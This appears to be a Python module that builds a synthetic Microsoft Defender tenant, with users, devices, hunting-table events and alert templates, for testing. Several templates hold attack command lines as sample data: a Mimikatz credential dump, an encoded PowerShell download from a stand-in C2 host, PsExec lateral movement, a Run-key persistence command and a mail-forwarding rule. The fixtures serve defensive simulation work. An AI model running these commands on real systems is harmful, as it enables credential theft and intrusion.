    _reg("RegistryValueSet", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings", "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "Binary", "", "svchost.exe", 20),
    _reg("RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities", "LastSyncTime", "Qword", "{n}", "OUTLOOK.EXE", 10),
    _reg("RegistryValueSet", _RUN_KEY, "OneDrive", "String", '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', "OneDriveSetup.exe", 4),
    _reg("RegistryKeyCreated", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\{n}", "", "", "", "msiexec.exe", 4),
    _reg("RegistryKeyDeleted", "HKEY_CURRENT_USER\\Software\\Classes\\Local Settings\\MuiCache\\{n}", "", "", "", "svchost.exe", 3),
    _reg("RegistryValueDeleted", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\AppSwitched", "{n}", "", "", "explorer.exe", 3),
    _reg("RegistryValueSet", _RUN_KEY, "Updater", "String", "C:\\Users\\Public\\updater.exe", "powershell.exe", 1),
    _reg("RegistryValueSet", "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", "Dword", "1", "reg.exe", 1),
    _reg("RegistryKeyCreated", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC", "", "", "", "services.exe", 1),
)  # fmt: skip

#: DeviceImageLoadEvents: (dll, folder, loading process, weight).
IMAGE_LOAD_PROFILES: tuple[dict[str, Any], ...] = tuple(
    {"file": dll, "folder": folder, "proc": proc, "weight": weight}
    for dll, folder, proc, weight in (
        ("ntdll.dll", _SYS32, "svchost.exe", 20),
        ("kernelbase.dll", _SYS32, "chrome.exe", 15),
        ("combase.dll", _SYS32, "OUTLOOK.EXE", 10),
        ("mso.dll", "C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\", "WINWORD.EXE", 10),
        ("clr.dll", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\", "powershell.exe", 8),
        ("System.Management.Automation.ni.dll", "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\", "powershell.exe", 8),
        ("winhttp.dll", _SYS32, "msedge.exe", 8),
        ("samlib.dll", _SYS32, "mimikatz.exe", 1),
        ("vaultcli.dll", _SYS32, "mimikatz.exe", 1),
        ("wininet.dll", _SYS32, "rundll32.exe", 1),
    )
)  # fmt: skip


def _idlogon(
    action: str, app: str, logon_type: str, proto: str, ip: str, weight: int, *, failure: str = ""
) -> dict[str, Any]:
    return {
        "action": action,
        "app": app,
        "logon_type": logon_type,
        "proto": proto,
        "ip": ip,
        "failure": failure,
        "weight": weight,
    }


#: IdentityLogonEvents: ``ip`` ``internal`` (the user's device), ``office`` (egress) or an attacker IP.
IDENTITY_LOGON_PROFILES: tuple[dict[str, Any], ...] = (
    _idlogon("LogonSuccess", "Active Directory", "Resource access", "Kerberos", "internal", 40),
    _idlogon("LogonSuccess", "Active Directory", "Credentials validation", "Ntlm", "internal", 10),
    _idlogon(
        "LogonFailed",
        "Active Directory",
        "Credentials validation",
        "Ntlm",
        "internal",
        5,
        failure="WrongPassword",
    ),
    _idlogon("LogonSuccess", "Microsoft 365", "Login:login", "", "office", 20),
    _idlogon(
        "LogonFailed",
        "Microsoft 365",
        "Login:login",
        "",
        "203.0.113.50",
        4,
        failure="InvalidUserNameOrPassword",
    ),
    _idlogon("LogonSuccess", "Microsoft 365", "Login:login", "", "203.0.113.50", 1),
)

#: IdentityDirectoryEvents: (action, protocol, AdditionalFields, weight).
DIRECTORY_PROFILES: tuple[dict[str, Any], ...] = tuple(
    {"action": action, "proto": proto, "extra": extra, "weight": weight}
    for action, proto, extra, weight in (
        ("Account Password changed", "Samr", '{"TARGET_OBJECT.USER":"{user}"}', 20),
        ("Group Membership changed", "Ldap", '{"TO.GROUP":"Finance Share Readers","TARGET_OBJECT.USER":"{user}"}', 10),
        ("Account Unlock changed", "Ldap", '{"TARGET_OBJECT.USER":"{user}"}', 5),
        ("Account enabled", "Ldap", '{"TARGET_OBJECT.USER":"{user}"}', 3),
        ("Group Membership changed", "Ldap", '{"TO.GROUP":"Domain Admins","TARGET_OBJECT.USER":"{user}"}', 1),
        ("Directory Services replication", "Drsr", '{"SourceDevice":"{host}","ReplicatedObjects":"krbtgt"}', 1),
        ("SMB file copy", "Smb", '{"FileName":"PSEXESVC.exe","FilePath":"ADMIN$"}', 1),
    )
)  # fmt: skip


def _cloud(
    action: str,
    app: str,
    app_id: int,
    activity: str,
    obj_type: str,
    obj: str,
    weight: int,
    *,
    ip: str = "office",
) -> dict[str, Any]:
    return {
        "action": action,
        "app": app,
        "app_id": app_id,
        "activity": activity,
        "obj_type": obj_type,
        "obj": obj,
        "ip": ip,
        "weight": weight,
    }


_EXO = ("Microsoft Exchange Online", 20893)
_SPO = ("Microsoft SharePoint Online", 20892)
#: CloudAppEvents.
CLOUD_APP_PROFILES: tuple[dict[str, Any], ...] = (
    _cloud("FileAccessed", *_SPO, "Read", "File", "/sites/team/Shared Documents/notes-{n}.docx", 20),
    _cloud("FileDownloaded", "Microsoft OneDrive for Business", 15600, "Download", "File", "/personal/{user}/Documents/budget-{n}.xlsx", 10),
    _cloud("MailItemsAccessed", *_EXO, "Read", "Mailbox", "{user}@contoso.com", 20),
    _cloud("Send", *_EXO, "Send", "Email", "Re: Contract renewal {n}", 10),
    _cloud("MessageSent", "Microsoft Teams", 11394, "Send", "Chat", "chat-{n}", 10),
    _cloud("FileDeleted", *_SPO, "Delete", "File", "/sites/team/Shared Documents/old-{n}.pptx", 3),
    _cloud("New-InboxRule", *_EXO, "Create", "Mailbox rule", "Forward to archive", 1, ip="198.51.100.77"),
    _cloud("Set-Mailbox", *_EXO, "Edit", "Mailbox", "ForwardingSmtpAddress=smtp:collector@outlook-mail.example", 1, ip="198.51.100.77"),
)  # fmt: skip

# --------------------------------------------------------------------------------------------------
# Incidents and alerts (Graph enum spellings, defender-api.md section 5)
# --------------------------------------------------------------------------------------------------

INCIDENT_STATUSES: tuple[str, ...] = ("active", "inProgress", "resolved", "redirected")
ALERT_STATUSES: tuple[str, ...] = ("new", "inProgress", "resolved")
SEVERITIES: tuple[str, ...] = ("informational", "low", "medium", "high")
CLASSIFICATIONS: tuple[str, ...] = (
    "unknown",
    "falsePositive",
    "truePositive",
    "informationalExpectedActivity",
)
#: Determinations allowed per classification.
DETERMINATIONS: dict[str, tuple[str, ...]] = {
    "unknown": ("unknown",),
    "truePositive": (
        "multiStagedAttack",
        "maliciousUserActivity",
        "compromisedAccount",
        "malware",
        "phishing",
        "unwantedSoftware",
        "other",
    ),
    "informationalExpectedActivity": (
        "securityTesting",
        "lineOfBusinessApplication",
        "confirmedActivity",
        "other",
    ),
    "falsePositive": ("notMalicious", "notEnoughDataToValidate", "other"),
}
#: Graph serviceSource -> AlertInfo.ServiceSource.
SERVICE_SOURCE_NAMES: dict[str, str] = {
    "microsoftDefenderForEndpoint": "Microsoft Defender for Endpoint",
    "microsoftDefenderForOffice365": "Microsoft Defender for Office 365",
    "microsoftDefenderForIdentity": "Microsoft Defender for Identity",
    "microsoftDefenderForCloudApps": "Microsoft Defender for Cloud Apps",
}
#: Graph detectionSource -> AlertInfo.DetectionSource.
DETECTION_SOURCE_NAMES: dict[str, str] = {
    "antivirus": "Antivirus",
    "microsoftDefenderForEndpoint": "EDR",
    "microsoftDefenderForOffice365": "Microsoft Defender for Office 365",
    "microsoftDefenderForIdentity": "Microsoft Defender for Identity",
    "cloudAppSecurity": "Microsoft Defender for Cloud Apps",
    "customDetection": "Custom detection",
}
#: Alert id prefixes by service, as the portal shows them.
ALERT_ID_PREFIXES: dict[str, str] = {
    "microsoftDefenderForEndpoint": "da",
    "microsoftDefenderForOffice365": "fa",
    "microsoftDefenderForIdentity": "aa",
    "microsoftDefenderForCloudApps": "ca",
}
MITRE_TECHNIQUES: dict[str, str] = {
    "T1003": "OS Credential Dumping",
    "T1003.001": "LSASS Memory",
    "T1003.006": "DCSync",
    "T1021.002": "SMB/Windows Admin Shares",
    "T1027": "Obfuscated Files or Information",
    "T1059.001": "PowerShell",
    "T1071.001": "Web Protocols",
    "T1105": "Ingress Tool Transfer",
    "T1110.001": "Password Guessing",
    "T1110.003": "Password Spraying",
    "T1114.003": "Email Forwarding Rule",
    "T1204.001": "Malicious Link",
    "T1547.001": "Registry Run Keys / Startup Folder",
    "T1566.002": "Spearphishing Link",
    "T1569.002": "Service Execution",
    "T1078": "Valid Accounts",
}
#: Evidence type -> (AlertEvidence.EntityType, EvidenceRole).
EVIDENCE_ENTITY_TYPES: dict[str, tuple[str, str]] = {
    "deviceEvidence": ("Machine", "Impacted"),
    "userEvidence": ("User", "Impacted"),
    "mailboxEvidence": ("Mailbox", "Impacted"),
    "fileEvidence": ("File", "Related"),
    "processEvidence": ("Process", "Related"),
    "ipEvidence": ("Ip", "Related"),
    "urlEvidence": ("Url", "Related"),
    "analyzedMessageEvidence": ("MailMessage", "Related"),
    "registryValueEvidence": ("RegistryValue", "Related"),
}


@dataclass(frozen=True, kw_only=True)
class AlertTemplate:
    """What one kind of alert says and which evidence it carries.

    :param evidence: evidence kinds in order: ``device``, ``user``, ``file``, ``process``, ``ip``,
        ``url``, ``mailbox``, ``message``, ``registry``, ``peer`` (a second device).
    """

    title: str
    description: str
    category: str
    service_source: str
    detection_source: str
    severity: str
    mitre: tuple[str, ...]
    evidence: tuple[str, ...]
    threat_family: str | None = None
    file: tuple[str, str, str] | None = None  # name, folder template, publisher
    command_line: str | None = None
    parent: str = "cmd.exe"
    ip: str | None = None
    url: str | None = None
    subject: str | None = None
    sender: str | None = None
    registry: tuple[str, str, str] | None = None  # key, value name, value data
    recommended_actions: str = "Isolate the device and investigate the timeline."


_MDE, _MDO = "microsoftDefenderForEndpoint", "microsoftDefenderForOffice365"
_MDI, _MDA = "microsoftDefenderForIdentity", "microsoftDefenderForCloudApps"
_SYSTEM_BINARIES = frozenset({"cmd.exe", "powershell.exe", "rundll32.exe", "reg.exe"})
_MIMIKATZ_FILE = ("mimikatz.exe", "C:\\Users\\{user}\\Downloads\\", "gentilkiwi (Benjamin DELPY)")

ALERT_TEMPLATES: dict[str, AlertTemplate] = {
    "mimikatz": AlertTemplate(
        title="Mimikatz credential theft tool",
        description="The credential theft tool Mimikatz was detected on the device.",
        category="CredentialAccess",
        service_source=_MDE,
        detection_source="antivirus",
        severity="high",
        mitre=("T1003", "T1003.001"),
        evidence=("device", "user", "file", "process"),
        threat_family="Mimikatz",
        file=_MIMIKATZ_FILE,
        command_line='mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    ),
    "encoded_ps": AlertTemplate(
        title="Suspicious PowerShell command line",
        description="A PowerShell process ran an encoded command that downloads a second stage.",
        category="Execution",
        service_source=_MDE,
        detection_source="microsoftDefenderForEndpoint",
        severity="medium",
        mitre=("T1059.001", "T1027", "T1105"),
        evidence=("device", "user", "process", "url"),
        command_line=f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED_STAGE2}",
        parent="WINWORD.EXE",
        url="http://evil-c2.example.net/stage2.ps1",
    ),
    "psexec": AlertTemplate(
        title="Suspicious service launched with PsExec",
        description="PsExec started a remote service on another device: possible lateral movement.",
        category="LateralMovement",
        service_source=_MDE,
        detection_source="microsoftDefenderForEndpoint",
        severity="medium",
        mitre=("T1569.002", "T1021.002"),
        evidence=("device", "user", "process", "peer"),
        command_line="PsExec.exe \\\\{host} -accepteula -s cmd.exe",
    ),
    "c2": AlertTemplate(
        title="Communication with a known command-and-control server",
        description="A process connected to infrastructure used by a known threat actor.",
        category="CommandAndControl",
        service_source=_MDE,
        detection_source="microsoftDefenderForEndpoint",
        severity="high",
        mitre=("T1071.001",),
        evidence=("device", "process", "ip", "url"),
        threat_family="CobaltStrike",
        command_line="rundll32.exe C:\\Users\\Public\\beacon.dll,Start",
        parent="powershell.exe",
        ip="203.0.113.66",
        url="evil-c2.example.net",
    ),
    "run_key": AlertTemplate(
        title="Anomaly detected in ASEP registry",
        description="A process added an unusual program to a Run key.",
        category="Persistence",
        service_source=_MDE,
        detection_source="microsoftDefenderForEndpoint",
        severity="low",
        mitre=("T1547.001",),
        evidence=("device", "process", "registry"),
        command_line='reg.exe add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "C:\\Users\\Public\\updater.exe"',
        parent="powershell.exe",
        registry=(_RUN_KEY, "Updater", "C:\\Users\\Public\\updater.exe"),
    ),
    "unwanted": AlertTemplate(
        title="'Presenoker' unwanted software was detected",
        description="Potentially unwanted software was detected and removed.",
        category="UnwantedSoftware",
        service_source=_MDE,
        detection_source="antivirus",
        severity="informational",
        mitre=(),
        evidence=("device", "file"),
        threat_family="Presenoker",
        file=("setup-88.exe", "C:\\Users\\{user}\\Downloads\\", "Unknown"),
        recommended_actions="No action needed; the file was quarantined.",
    ),
    "brute_rdp": AlertTemplate(
        title="Multiple failed sign-in attempts on a device",
        description="Many failed remote sign-ins for built-in accounts came from one external address.",
        category="CredentialAccess",
        service_source=_MDE,
        detection_source="microsoftDefenderForEndpoint",
        severity="medium",
        mitre=("T1110.001",),
        evidence=("device", "ip"),
        ip="203.0.113.50",
    ),
    "phish_delivered": AlertTemplate(
        title="Email messages containing malicious URL removed after delivery",
        description="Messages with a credential-phishing URL were delivered and later removed (ZAP).",
        category="InitialAccess",
        service_source=_MDO,
        detection_source="microsoftDefenderForOffice365",
        severity="informational",
        mitre=("T1566.002",),
        evidence=("mailbox", "message", "url"),
        url="https://login.micros0ft-security.example/verify",
        subject="Action required: verify your mailbox",
        sender="it-support@micros0ft-security.example",
        recommended_actions="Review the recipients and reset credentials of anyone who clicked.",
    ),
    "phish_click": AlertTemplate(
        title="A potentially malicious URL click was detected",
        description="A user clicked a link that was later found to be malicious.",
        category="InitialAccess",
        service_source=_MDO,
        detection_source="microsoftDefenderForOffice365",
        severity="high",
        mitre=("T1566.002", "T1204.001"),
        evidence=("user", "url", "mailbox"),
        url="https://login.micros0ft-security.example/verify",
        recommended_actions="Reset the user's password and revoke their sessions.",
    ),
    "password_spray": AlertTemplate(
        title="Password spray attack",
        description="One address tried a few common passwords against many accounts.",
        category="CredentialAccess",
        service_source=_MDI,
        detection_source="microsoftDefenderForIdentity",
        severity="medium",
        mitre=("T1110.003", "T1078"),
        evidence=("user", "ip", "device"),
        ip="203.0.113.50",
        recommended_actions="Block the source address and enforce MFA for the targeted accounts.",
    ),
    "dcsync": AlertTemplate(
        title="Suspected DCSync attack (replication of directory services)",
        description="A non-domain-controller asked a domain controller to replicate account secrets.",
        category="CredentialAccess",
        service_source=_MDI,
        detection_source="microsoftDefenderForIdentity",
        severity="high",
        mitre=("T1003.006",),
        evidence=("user", "device", "peer"),
    ),
    "inbox_rule": AlertTemplate(
        title="Suspicious inbox forwarding rule",
        description="A new inbox rule forwards mail to an external address.",
        category="Exfiltration",
        service_source=_MDA,
        detection_source="cloudAppSecurity",
        severity="medium",
        mitre=("T1114.003",),
        evidence=("user", "mailbox", "ip"),
        ip="198.51.100.77",
        recommended_actions="Remove the rule, reset the password and review sign-ins.",
    ),
}


@dataclass(frozen=True, kw_only=True)
class Scenario:
    """One kind of incident: its name, its alerts (the first always present) and its verdicts."""

    name: str
    alerts: tuple[str, ...]
    weight: int
    determinations: tuple[str, ...]
    device_kind: str = "workstation"  # or "server", "dc"
    system_tags: tuple[str, ...] = ()


SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        name="Multi-stage incident involving Execution & Credential access on one endpoint",
        alerts=("encoded_ps", "mimikatz", "c2", "run_key"),
        weight=10,
        determinations=("multiStagedAttack", "malware", "compromisedAccount"),
    ),
    Scenario(
        name="Mimikatz detected on {device}", alerts=("mimikatz",), weight=10, determinations=("malware",)
    ),
    Scenario(
        name="Lateral movement with PsExec involving multiple endpoints",
        alerts=("psexec", "mimikatz"),
        weight=6,
        determinations=("multiStagedAttack", "maliciousUserActivity"),
    ),
    Scenario(
        name="Command and control communication from {device}",
        alerts=("c2", "encoded_ps"),
        weight=8,
        determinations=("malware",),
    ),
    Scenario(
        name="Email messages containing malicious URL removed after delivery involving multiple users",
        alerts=("phish_delivered", "phish_click"),
        weight=14,
        determinations=("phishing",),
        system_tags=("Credential Phish",),
    ),
    Scenario(
        name="Password spray attack against multiple users",
        alerts=("password_spray",),
        weight=8,
        determinations=("maliciousUserActivity", "compromisedAccount"),
        device_kind="dc",
    ),
    Scenario(
        name="Suspected DCSync attack involving one user",
        alerts=("dcsync", "mimikatz"),
        weight=3,
        determinations=("multiStagedAttack",),
        device_kind="dc",
        system_tags=("Defender Experts",),
    ),
    Scenario(
        name="Suspicious inbox forwarding rule for {user}",
        alerts=("inbox_rule",),
        weight=6,
        determinations=("compromisedAccount",),
        system_tags=("BEC Fraud",),
    ),
    Scenario(
        name="Unwanted software detected on {device}",
        alerts=("unwanted",),
        weight=14,
        determinations=("unwantedSoftware",),
    ),
    Scenario(
        name="Multiple failed sign-in attempts on {device}",
        alerts=("brute_rdp",),
        weight=8,
        determinations=("maliciousUserActivity", "other"),
        device_kind="server",
    ),
    Scenario(
        name="Persistence through a registry run key on {device}",
        alerts=("run_key", "encoded_ps"),
        weight=5,
        determinations=("malware", "other"),
    ),
)

CUSTOM_TAGS: tuple[str, ...] = ("triage", "vip", "pci", "ir-42", "phishing-campaign", "needs-review")
COMMENT_TEXTS: tuple[str, ...] = (
    "Looking into this.",
    "Isolating the host.",
    "Confirmed with the user: not expected.",
    "Password reset done, sessions revoked.",
    "Blocked the indicator at the proxy.",
    "Part of the red-team exercise.",
    "Closing: contained and remediated.",
)
#: Fractional digits of API timestamps, as the services send them (trailing zeros dropped too).
FRACTION_DIGITS: tuple[int, ...] = (0, 1, 2, 3, 4, 5, 6, 7, 7, 7, 7)


# --------------------------------------------------------------------------------------------------
# Public interface
# --------------------------------------------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class Device:
    """One onboarded device; ``device_name`` is what hunting tables show in ``DeviceName``."""

    device_id: str
    device_name: str
    dns_name: str = ""
    os_platform: str = "Windows11"
    os_version: str = ""
    os_build: int | None = None
    client_version: str = ""
    device_type: str = "Workstation"
    role: str = ""
    ip: str = ""
    public_ip: str = OFFICE_EGRESS_IP
    mac: str = ""
    aad_device_id: str = ""
    rbac_group: str = ""
    rbac_group_id: int = 0
    risk_score: str = "none"
    exposure_level: str = "Low"
    vendor: str = ""
    model: str = ""
    first_seen: datetime = _EPOCH
    primary_user: str = ""  # account name


@dataclass(frozen=True, kw_only=True)
class User:
    """One directory account; ``account_name`` is the SAM name hunting tables show."""

    account_name: str
    account_domain: str
    upn: str
    sid: str
    object_id: str
    display_name: str
    given_name: str = ""
    surname: str = ""
    department: str = ""
    job_title: str = ""
    city: str = ""
    country: str = ""
    kind: str = "user"  # "user", "analyst", "admin", "service"


@dataclass(kw_only=True)
class Tenant:
    """The generated tenant: what the hunting tables and the incident store were built from."""

    tenant_id: str
    devices: list[Device]
    users: list[User]
    incidents: list[dict[str, Any]]


def create_tables(con: duckdb.DuckDBPyConnection) -> None:
    """Create every hunting table, empty, in schema ``store``, columns in documented order.

    :param con: the DuckDB connection (from ``duckdb_kql.connect()``).
    """
    con.execute("CREATE SCHEMA IF NOT EXISTS store")
    for table, columns in table_schemas().items():
        body = ", ".join(f'"{name}" {DUCKDB_TYPES[kusto]}' for name, kusto in columns)
        con.execute(f'CREATE TABLE IF NOT EXISTS store."{table}" ({body})')


def build_tenant(
    con: duckdb.DuckDBPyConnection,
    *,
    tenant_id: str,
    seed: int,
    now: datetime,
    days: int,
    events_per_day: int,
    incidents: int,
    portal: str = "https://security.microsoft.com",
) -> Tenant:
    """Create the tables, fill them and return the tenant.

    :param con: the DuckDB connection (from ``duckdb_kql.connect()``).
    :param tenant_id: the directory id written into incidents and alerts.
    :param seed: seed of every pseudo-random choice.
    :param now: the data time; every timestamp is before it (naive values are taken as UTC).
    :param days: days of history, ending at ``now``.
    :param events_per_day: rows per day in each of the four large tables (see the module docstring).
    :param incidents: number of incidents.
    :param portal: portal origin for ``incidentWebUrl`` and ``alertWebUrl``.
    """
    if days < 1 or events_per_day < 0 or incidents < 0:
        raise ValueError(
            f"need days >= 1, events_per_day >= 0, incidents >= 0 (got {days}, {events_per_day}, {incidents})"
        )
    now = now.replace(tzinfo=UTC) if now.tzinfo is None else now.astimezone(UTC)
    rng = random.Random(seed)
    users = _make_users(rng)
    devices = _make_devices(rng, users, now=now)
    create_tables(con)
    if events_per_day:
        _EventWriter(con, seed=seed, now=now, days=days, devices=devices, users=users).write_all(
            events_per_day
        )
    incident_list = _IncidentFactory(
        rng, tenant_id=tenant_id, portal=portal.rstrip("/"), now=now, days=days, devices=devices, users=users
    ).build(incidents)
    insert_rows(con, "AlertInfo", alert_info_rows(incident_list))
    insert_rows(con, "AlertEvidence", alert_evidence_rows(incident_list))
    return Tenant(tenant_id=tenant_id, devices=devices, users=users, incidents=incident_list)


def insert_rows(con: duckdb.DuckDBPyConnection, table: str, rows: Sequence[Mapping[str, Any]]) -> int:
    """Append JSON-like rows to a hunting table and return how many were added.

    Missing columns are NULL. Datetime columns take ISO 8601 strings (``Z`` and up to 7 fractional
    digits) or datetimes (naive ones are UTC). Dicts and lists are stored as JSON text; a string for
    a ``dynamic`` column is kept if it is JSON, else stored as a JSON string.

    :param con: the DuckDB connection holding schema ``store``.
    :param table: the hunting table, spelt as documented (``DeviceProcessEvents``).
    :param rows: one mapping per row, column name to value.
    :raises ValueError: unknown table or column, or a value the column's type cannot take.
    """
    schemas = table_schemas()
    if table not in schemas:
        raise ValueError(f"unknown table '{table}'; hunting tables are: {', '.join(sorted(schemas))}")
    types = dict(schemas[table])
    rows = list(rows)
    if not rows:
        return 0
    # Insert only the columns some row names; DuckDB fills the rest with NULL.
    used = _used_columns(table, types, rows)
    keys = [f"c{position}" for position in range(len(used))]
    payload = [
        {
            key: _cell(table, name, types[name], row.get(name), index)
            for key, name in zip(keys, used, strict=True)
        }
        for index, row in enumerate(rows)
    ]
    # One JSON document of text cells, cast per column in SQL: far faster than VALUES or
    # executemany, which DuckDB binds statement by statement.
    structure = json.dumps([{key: "VARCHAR" for key in keys}])
    casts = ", ".join(
        f"CAST(r.{key} AS {DUCKDB_TYPES[types[name]]})" for key, name in zip(keys, used, strict=True)
    )
    names = ", ".join(f'"{name}"' for name in used)
    try:
        con.execute(
            f'INSERT INTO store."{table}" ({names}) SELECT {casts} FROM (SELECT unnest(from_json(?::JSON, ?)) AS r)',
            [json.dumps(payload), structure],
        )
    except duckdb.Error as exc:
        raise ValueError(f"cannot insert into {table}: {exc}") from exc
    return len(rows)


def _used_columns(table: str, types: Mapping[str, str], rows: Sequence[Mapping[str, Any]]) -> list[str]:
    """Columns named by any row, in documented order; an unknown name is an error."""
    named: set[str] = set()
    for index, row in enumerate(rows):
        if not isinstance(row, Mapping):
            raise ValueError(f"row {index} for table {table} is not an object")
        named.update(row)
    unknown = sorted(named - set(types))
    if unknown:
        noun = "column" if len(unknown) == 1 else "columns"
        raise ValueError(f"unknown {noun} {', '.join(map(repr, unknown))} in table {table}")
    return [name for name in types if name in named] or [next(iter(types))]


def _cell(table: str, column: str, kusto: str, value: Any, index: int) -> str | None:
    """One value as the text its column's CAST reads; the error names the row and column."""
    if value is None:
        return None
    try:
        return _convert(kusto, value)
    except (TypeError, ValueError) as exc:
        raise ValueError(f"row {index}, {table}.{column} ({kusto}): bad value {value!r}: {exc}") from exc


def _convert(kusto: str, value: Any) -> str:
    if kusto == "datetime":
        return _parse_datetime(value).isoformat()
    if kusto == "dynamic":
        if isinstance(value, str):
            try:
                json.loads(value)
            except ValueError:
                return json.dumps(value)
            return value
        return json.dumps(value)
    if kusto in ("bool", "boolean"):
        return "true" if _parse_bool(value) else "false"
    if kusto in ("long", "int"):
        if isinstance(value, bool) or (isinstance(value, float) and not value.is_integer()):
            raise ValueError("not an integer")
        return str(int(value))
    if kusto in ("real", "double"):
        return repr(float(value))
    if isinstance(value, dict | list | bool):
        return json.dumps(value)
    return value if isinstance(value, str) else str(value)


def _parse_datetime(value: Any) -> datetime:
    if isinstance(value, datetime):
        parsed = value
    elif isinstance(value, str):
        parsed = datetime.fromisoformat(value.strip())
    else:
        raise TypeError("expected an ISO 8601 string or a datetime")
    return parsed.replace(tzinfo=UTC) if parsed.tzinfo is None else parsed.astimezone(UTC)


def _parse_bool(value: Any) -> bool:
    if isinstance(value, bool):
        return value
    if isinstance(value, int) and value in (0, 1):
        return bool(value)
    if isinstance(value, str) and value.strip().lower() in ("true", "false", "1", "0"):
        return value.strip().lower() in ("true", "1")
    raise ValueError("expected a boolean")


# --------------------------------------------------------------------------------------------------
# Devices and users
# --------------------------------------------------------------------------------------------------


def _guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _make_users(rng: random.Random) -> list[User]:
    """80 accounts: SOC analysts first, then employees, then built-in and service accounts."""
    domain_sid = "S-1-5-21-" + "-".join(str(rng.randrange(10**9, 4 * 10**9)) for _ in range(3))
    names = [(first, last) for first in FIRST_NAMES for last in LAST_NAMES]
    rng.shuffle(names)
    people = USER_COUNT - len(SPECIAL_ACCOUNTS)
    departments = [group[2] for group in WORKSTATION_GROUPS]
    users: list[User] = []
    taken: set[str] = set()
    for index, (first, last) in enumerate(names[:people]):
        department = "Security Operations" if index < SOC_ANALYSTS else departments[index % len(departments)]
        account = _unique(f"{first[0]}{last}".lower(), taken)
        city, country = rng.choice(CITIES)
        users.append(
            User(
                account_name=account,
                account_domain=NETBIOS_DOMAIN,
                upn=f"{first}.{last}@{DOMAIN}".lower(),
                sid=f"{domain_sid}-{1100 + index}",
                object_id=_guid(rng),
                display_name=f"{first} {last}",
                given_name=first,
                surname=last,
                department=department,
                job_title=rng.choice(JOB_TITLES[department]),
                city=city,
                country=country,
                kind="analyst" if index < SOC_ANALYSTS else "user",
            )
        )
    for account, display, department, title, rid in SPECIAL_ACCOUNTS:
        users.append(
            User(
                account_name=account,
                account_domain=NETBIOS_DOMAIN,
                upn=f"{account}@{DOMAIN}",
                sid=f"{domain_sid}-{rid}",
                object_id=_guid(rng),
                display_name=display,
                department=department,
                job_title=title,
                city="Seattle",
                country="US",
                kind="admin" if rid == 500 else "service",
            )
        )
    return users


def _unique(name: str, taken: set[str]) -> str:
    candidate, suffix = name, 2
    while candidate in taken:
        candidate, suffix = f"{name}{suffix}", suffix + 1
    taken.add(candidate)
    return candidate


def _make_devices(rng: random.Random, users: Sequence[User], *, now: datetime) -> list[Device]:
    """50 devices: department workstations (each with a primary user), then servers."""
    by_department: dict[str, list[User]] = {}
    for user in users:
        if user.kind == "user":
            by_department.setdefault(user.department, []).append(user)
    it_staff = by_department.get("IT", [u for u in users if u.kind == "user"])
    devices: list[Device] = []
    for subnet, (prefix, count, department) in enumerate(WORKSTATION_GROUPS, start=1):
        owners = by_department.get(department) or it_staff
        for number in range(1, count + 1):
            platform = "Windows11" if rng.random() < 0.7 else "Windows10"
            vendor, model = rng.choice(DEVICE_MODELS)
            devices.append(
                _device(
                    rng,
                    name=f"{prefix}-{number:02d}",
                    platform=platform,
                    ip=f"10.1.{subnet}.{rng.randrange(20, 250)}",
                    kind="Workstation",
                    role="",
                    group=f"{department} workstations",
                    group_id=subnet,
                    vendor=vendor,
                    model=model,
                    owner=rng.choice(owners).account_name,
                    now=now,
                )
            )
    for number, (name, platform, role) in enumerate(SERVERS):
        ip = DC_IPS[number] if number < len(DC_IPS) else f"10.0.0.{20 + number}"
        tier0 = role == "DomainController"
        devices.append(
            _device(
                rng,
                name=name,
                platform=platform,
                ip=ip,
                kind="Server",
                role=role,
                group="Tier 0 servers" if tier0 else "Servers",
                group_id=20 if tier0 else 21,
                vendor="VMware, Inc.",
                model="VMware7,1",
                owner=rng.choice(it_staff).account_name,
                now=now,
            )
        )
    return devices


def _device(
    rng: random.Random,
    *,
    name: str,
    platform: str,
    ip: str,
    kind: str,
    role: str,
    group: str,
    group_id: int,
    vendor: str,
    model: str,
    owner: str,
    now: datetime,
) -> Device:
    version, build, client = OS_DETAILS[platform]
    return Device(
        device_id=f"{rng.getrandbits(160):040x}",
        device_name=name,
        dns_name=f"{name}.{DOMAIN}",
        os_platform=platform,
        os_version=version,
        os_build=build,
        client_version=client,
        device_type=kind,
        role=role,
        ip=ip,
        mac="00-15-5D-" + "-".join(f"{rng.randrange(256):02X}" for _ in range(3)),
        aad_device_id="" if platform == "Linux" else _guid(rng),
        rbac_group=group,
        rbac_group_id=group_id,
        risk_score=rng.choice(RISK_SCORES),
        exposure_level=rng.choice(("Low", "Medium", "High")),
        vendor=vendor,
        model=model,
        first_seen=(now - timedelta(days=rng.randrange(90, 900), seconds=rng.randrange(86_400))).replace(
            microsecond=rng.randrange(1_000_000)
        ),
        primary_user=owner,
    )


def _file_hashes(name: str) -> tuple[str, str, str]:
    """(sha1, sha256, md5) of a file, by name: the SQL side derives them the same way."""
    data = name.lower().encode("utf-8")
    return hashlib.sha1(data).hexdigest(), hashlib.sha256(data).hexdigest(), hashlib.md5(data).hexdigest()


# --------------------------------------------------------------------------------------------------
# Event tables (DuckDB SQL)
# --------------------------------------------------------------------------------------------------


def _sql_str(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


class _EventWriter:
    """Writes the event tables with set-based SQL; every choice is a hash of the row index.

